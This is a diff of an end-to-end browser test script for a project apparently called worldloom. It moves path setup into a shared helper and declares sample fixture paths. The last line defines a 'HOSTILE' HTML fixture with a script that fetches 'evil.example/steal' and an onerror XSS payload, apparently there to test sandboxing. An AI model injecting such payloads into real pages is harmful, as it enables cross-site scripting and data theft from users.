@@ -12,18 +12,13 @@
 //
 // The binary is $WORLDLOOM_BIN, else $CARGO_TARGET_DIR/debug/worldloom.
 // Screenshots go to e2e/screenshots/lesson-*.png.
-import { mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
-import { dirname, join, resolve } from "node:path";
-import { fileURLToPath, pathToFileURL } from "node:url";
-import { launch, serve } from "./browser.mjs";
+import { join } from "node:path";
+import { pathToFileURL } from "node:url";
+import { launch, places, serve } from "./browser.mjs";
 
-const here = dirname(fileURLToPath(import.meta.url));
-const uiDir = resolve(here, "..");
-const repo = resolve(uiDir, "..");
-const shots = join(here, "screenshots");
-mkdirSync(shots, { recursive: true });
-const bin = process.env.WORLDLOOM_BIN ?? join(process.env.CARGO_TARGET_DIR ?? join(repo, "target"), "debug", "worldloom");
+const { uiDir, repo, shots, bin } = places();
 const web = join(repo, "samples", "web", "agentlab_larkmail-reply_6steps.json");
 const os = join(repo, "samples", "os", "thunar_rename_trajectory");
 const HOSTILE = `<html><body><h1>Predicted inbox</h1><script>fetch("https://evil.example/steal")</script><img src="https://evil.example/p.png" onerror="alert(1)"></body></html>`;
